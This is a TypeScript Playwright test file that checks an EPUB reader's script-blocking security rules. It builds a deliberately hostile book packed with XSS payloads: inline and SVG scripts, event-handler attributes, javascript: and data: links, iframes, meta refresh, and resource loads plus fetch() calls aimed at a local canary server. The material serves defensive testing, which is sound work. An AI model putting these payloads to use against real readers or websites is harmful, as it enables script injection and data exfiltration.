import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import test, { after, before } from 'node:test';
import { buildEpub } from '@mangu/epub/testing';
import type { Page } from 'playwright-core';
import { skipWithoutBrowser as skip } from './browser.ts';
import {
  bookFrames,
  corpusBook,
  openReader,
  openReaderApp,
  type ReaderTestApp,
  shows,
  skipWithoutCorpus,
  until,
} from './reader-app.ts';

// Rule 1 of the security rules: book content never runs script. The server of these tests sanitises nothing.

let app: ReaderTestApp;
before(async () => {
  if (!skip) app = await openReaderApp();
});
after(() => app?.[Symbol.asyncDispose]());

/** A server that nobody may speak to. It counts connections too: a page can open one without a request. */
async function startCanary() {
  const heard: string[] = [];
  const server: Server = createServer((request, response) => {
    heard.push(`${request.method} ${request.url}`);
    response.writeHead(200, { 'access-control-allow-origin': '*' }).end('alert(1)');
  });
  server.on('connection', () => heard.push('connection'));
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    heard,
    origin: `http://127.0.0.1:${port}`,
    [Symbol.asyncDispose]: () =>
      new Promise<void>((resolve) => {
        server.close(() => resolve());
        server.closeAllConnections();
      }),
  };
}

/** Collects every sign that something ran or got out. */
async function watch(page: Page, origin: string) {
  const signs: string[] = [];
  page.on('dialog', (dialog) => {
    signs.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('popup', (popup) => signs.push(`popup: ${popup.url()}`));
  page.on('framenavigated', (frame) => {
    const url = frame.url();
    if (!url.startsWith(origin) && !url.startsWith('blob:') && url !== 'about:blank')
      signs.push(`navigated: ${url}`);
  });
  page.on('request', (request) => {
    const url = request.url();
    if (!url.startsWith(origin) && !/^(?:blob|data):/.test(url)) signs.push(`request: ${url}`);
  });
  await page.exposeFunction('reportMessage', (data: string) => signs.push(`message: ${data}`));
  await page.evaluate(() => {
    window.addEventListener('message', (event) => {
      (window as unknown as { reportMessage: (data: string) => void }).reportMessage(
        JSON.stringify(event.data),
      );
    });
  });
  return signs;
}

/** Marks a script of the book would leave. */
async function marks(page: Page): Promise<string[]> {
  const found: string[] = [];
  if ((await page.title()).includes('pwned')) found.push('title');
  if (await page.evaluate(() => 'pwned' in window || localStorage.getItem('pwned') !== null))
    found.push('window');
  for (const frame of bookFrames(page))
    if (await frame.evaluate(() => 'pwned' in window || document.documentElement.hasAttribute('data-pwned')))
      found.push('frame');
  return found;
}

function hostile(canary: string): Uint8Array {
  const run = `window.pwned=1;document.documentElement.setAttribute('data-pwned','');try{parent.pwned=1;parent.document.title='pwned';localStorage.setItem('pwned','1');parent.postMessage('pwned','*');top.location='${canary}/top'}catch(e){};fetch('${canary}/fetch');alert('pwned')`;
  const attribute = run.replaceAll('&', '&amp;').replaceAll('"', '&quot;');
  const body = `
    <p id="words">The words of the book.</p>
    <script>${run}</script><script src="evil.js"></script><script src="${canary}/remote.js"></script>
    <script type="module">${run}</script>
    <img src="${canary}/image" alt="" onerror="${attribute}"/><img src="nothing.png" alt="" onerror="${attribute}"/>
    <img srcset="${canary}/set 2x" alt=""/><video src="${canary}/video" poster="${canary}/poster" autoplay="autoplay"/>
    <audio src="${canary}/audio" autoplay="autoplay"/><input type="image" src="${canary}/input" alt=""/>
    <svg xmlns="http://www.w3.org/2000/svg" onload="${attribute}"><script>${run}</script>
      <image href="${canary}/svg"/><a xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="javascript:${attribute}"><text y="20">drawn link</text></a>
      <animate onbegin="${attribute}" attributeName="x" dur="1s"/></svg>
    <iframe src="${canary}/frame"/><iframe srcdoc="&lt;script&gt;parent.parent.pwned=1&lt;/script&gt;"/>
    <iframe src="inner.xhtml"/><object data="${canary}/object" type="text/html"/><embed src="${canary}/embed"/>
    <form action="${canary}/form" method="post"><button id="send">send</button></form>
    <a id="js" href="javascript:${attribute}">script link</a>
    <a id="data" href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;" target="_top">data link</a>
    <a id="ping" href="c1.xhtml" ping="${canary}/ping">pinging link</a>
    <details open="open" ontoggle="${attribute}"><summary>x</summary>y</details>
    <input autofocus="autofocus" onfocus="${attribute}"/><p style="background: url(${canary}/style)">styled</p>`;
  const inner = `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>i</title><script>parent.parent.pwned=1;${run}</script></head><body onload="${attribute}"><p>inner</p></body></html>`;
  const head = `<meta http-equiv="refresh" content="0;url=${canary}/refresh"/><base href="${canary}/"/>
    <link rel="stylesheet" href="${canary}/sheet.css"/><link rel="stylesheet" href="evil.css"/>
    <link rel="preconnect" href="${canary}"/><link rel="dns-prefetch" href="${canary}"/><link rel="prefetch" href="${canary}/prefetch"/>
    <link rel="preload" as="script" href="${canary}/preload"/><link rel="modulepreload" href="${canary}/module"/>
    <link rel="icon" href="${canary}/icon"/><style>@import "${canary}/import.css"; @font-face { font-family: x; src: url(${canary}/font) } p { font-family: x; background: url("${canary}/css") }</style>`;
  const page = `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>c</title>${head}</head><body onload="${attribute}">${body}</body></html>`;
  const text = (id: string, href: string, mediaType: string, data: string) => ({ id, href, mediaType, data });
  return buildEpub({
    title: 'A Hostile Book',
    items: [
      { ...text('attack', 'attack.xhtml', 'application/xhtml+xml', page), inSpine: true },
      text('inner', 'inner.xhtml', 'application/xhtml+xml', inner),
      text('evil', 'evil.js', 'text/javascript', run),
      text(
        'css',
        'evil.css',
        'text/css',
        `@import url("${canary}/deep.css"); body { background: url(${canary}/sheet) }`,
      ),
      {
        ...text(
          'drawing',
          'drawing.svg',
          'image/svg+xml',
          `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 300 200" onload="${attribute}"><script>${run}</script><foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml"><script>${run}</script></body></foreignObject><text x="20" y="50" font-size="12">The drawing.</text></svg>`,
        ),
        inSpine: true,
      },
    ],
  });
}

test('rule 1: a hostile book runs nothing and reaches nobody, though nothing of it was removed before', {
  skip,
}, async () => {
  await using canary = await startCanary();
  await using server = await app.serveBooks({ hostile: hostile(canary.origin) });
  const page = await openReader(app, server, 'hostile');
  try {
    const signs = await watch(page, server.origin);
    await page.evaluate(() => {
      window.location.hash = '#href=EPUB/attack.xhtml';
    });
    await shows(page, 'The words of the book.');
    const frame = await until(page, 'the frame with the words', async () => {
      for (const one of bookFrames(page)) if (await one.$('#words').catch(() => null)) return one;
      return false;
    });
    // Not the main button: that would also turn the page.
    for (const one of ['#js', '#data', '#send', 'svg a'])
      await frame
        .locator(one)
        .evaluate((element) =>
          element.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true, button: 1 })),
        );
    await page.keyboard.press('Control+End');
    await shows(page, 'The drawing.');
    assert.deepEqual(await marks(page), []);
    assert.deepEqual(signs, []);
    assert.deepEqual(canary.heard, []);
  } finally {
    await page[Symbol.asyncDispose]().catch(() => undefined);
  }
});

test('rule 1: the policy alone keeps a frame of a book from running and from speaking', {
  skip,
}, async () => {
  await using canary = await startCanary();
  await using server = await app.serveBooks({ hostile: hostile(canary.origin) });
  const page = await openReader(app, server, 'hostile');
  try {
    const signs = await watch(page, server.origin);
    // What the reader removes is put back: a frame with scripts allowed and the book as it came.
    await page.evaluate(async (source) => {
      const text = await (await fetch(source)).text();
      const frame = document.createElement('iframe');
      Element.prototype.setAttribute.call(
        frame,
        'sandbox',
        'allow-same-origin allow-scripts allow-forms allow-popups',
      );
      frame.src = URL.createObjectURL(new Blob([text], { type: 'application/xhtml+xml' }));
      await new Promise((resolve) => {
        frame.addEventListener('load', resolve, { once: true });
        document.body.append(frame);
      });
    }, `${server.origin}/api/books/hostile/resources/0a1b2c/EPUB/attack.xhtml`);
    assert.deepEqual(await marks(page), []);
    // A request or a frame that the policy refuses is still announced; what counts is that none arrives.
    assert.deepEqual(
      signs.filter((sign) => !/^request:|^navigated: (?:chrome-error:|about:srcdoc)/.test(sign)),
      [],
    );
    assert.deepEqual(
      canary.heard.filter((line) => line !== 'connection'),
      [],
    );
  } finally {
    await page[Symbol.asyncDispose]().catch(() => undefined);
  }
});

for (const name of [
  'epub-test',
  'evil-javascript_execution',
  'evil-remote_communication',
  'evil-uri_handles',
  'gen-external-tracking-image',
  'gen-nav-javascript-url',
  'gen-svg-cover-script',
])
  test(`rule 1: ${name} of the corpus runs nothing and reaches nobody on any of its pages`, {
    skip: skipWithoutCorpus,
  }, async () => {
    await using server = await app.serveBooks({ book: await corpusBook(`hostile/${name}`) });
    const page = await openReader(app, server, 'book');
    try {
      const signs = await watch(page, server.origin);
      for (let turns = 0; turns < 8; turns++) {
        await page.keyboard.press('PageDown');
        await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(resolve)));
      }
      await page.keyboard.press('Control+Home');
      await shows(page, /./);
      assert.deepEqual(signs, []);
      await page.keyboard.press('c');
      const entries = await page.getByRole('tabpanel').getByRole('button').count();
      assert.ok(entries >= 0);
    } finally {
      await page[Symbol.asyncDispose]().catch(() => undefined);
    }
  });

test('rule 2: an entry of the contents with a script address is words, not a link', {
  skip: skipWithoutCorpus,
}, async () => {
  await using server = await app.serveBooks({ book: await corpusBook('hostile/gen-nav-javascript-url') });
  const page = await openReader(app, server, 'book');
  try {
    await page.keyboard.press('c');
    const panel = page.getByRole('tabpanel');
    await panel.getByRole('button').first().waitFor();
    assert.equal(await page.locator('[href^="javascript:" i]').count(), 0);
    const signs = await watch(page, server.origin);
    for (const entry of await panel.getByRole('listitem').all()) await entry.click({ trial: true });
    assert.deepEqual(signs, []);
  } finally {
    await page[Symbol.asyncDispose]().catch(() => undefined);
  }
});

test('rule 3: markup in titles, labels and words is shown as text', { skip }, async () => {
  const markup = '<img src=x onerror=alert(1)>';
  const book = buildEpub({
    title: `Bold ${markup}`,
    chapters: [{ title: `Chapter ${markup}`, body: '<p>Words &lt;b&gt;not bold&lt;/b&gt; to search.</p>' }],
  });
  await using server = await app.serveBooks({ book });
  await using page = await openReader(app, server, 'book');
  await page.keyboard.press('c');
  await page.getByRole('tabpanel').getByText(`Chapter ${markup}`).waitFor();
  await page.keyboard.press('Escape');
  await page.keyboard.press('/');
  await page.getByLabel('Words to find').fill('not bold');
  await page.keyboard.press('Enter');
  await page.getByRole('dialog').getByText('<b>not bold</b>').waitFor();
  assert.equal(await page.locator('img').count(), 0);
});
